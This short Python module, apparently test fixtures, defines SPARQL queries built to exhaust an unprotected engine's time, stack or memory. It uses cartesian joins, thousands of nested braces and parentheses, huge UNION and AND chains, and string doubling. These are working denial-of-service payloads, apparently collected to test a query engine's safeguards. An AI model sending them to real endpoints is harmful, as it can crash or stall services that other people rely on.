"""Queries that bring an unprotected engine down, each in another way."""

from __future__ import annotations

#: Name to query. Those of time run for ever, those of the stack and of memory kill their process.
TIME = {
    "cartesian": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }",
    "order": "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?c ?f ?i",
    "group": "SELECT ?a (COUNT(?f) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } GROUP BY ?a",
    "planner": "ASK {" + " ".join(f"?s{n} ?p{n} ?o{n} ." for n in range(300)) + "}",
    "optionals": "ASK {" + " ".join(f"OPTIONAL {{ ?s{n} ?p{n} ?o{n} }}" for n in range(250)) + "}",
}
STACK = {
    "braces": "ASK " + "{" * 2250 + "}" * 2250,  # 4.5 kB
    "brackets": "ASK { FILTER" + "(" * 6000 + "1" + ")" * 6000 + " }",
    "unions": "ASK {" + " UNION ".join(["{}"] * 10_000) + "}",
    "ands": "ASK { FILTER(" + " && ".join(["1"] * 15_000) + ") }",
}
MEMORY = {
    "doubling": "SELECT (STRLEN(?x40) AS ?n) { BIND('0123456789' AS ?x0) "
    + " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(40))
    + " }",
}
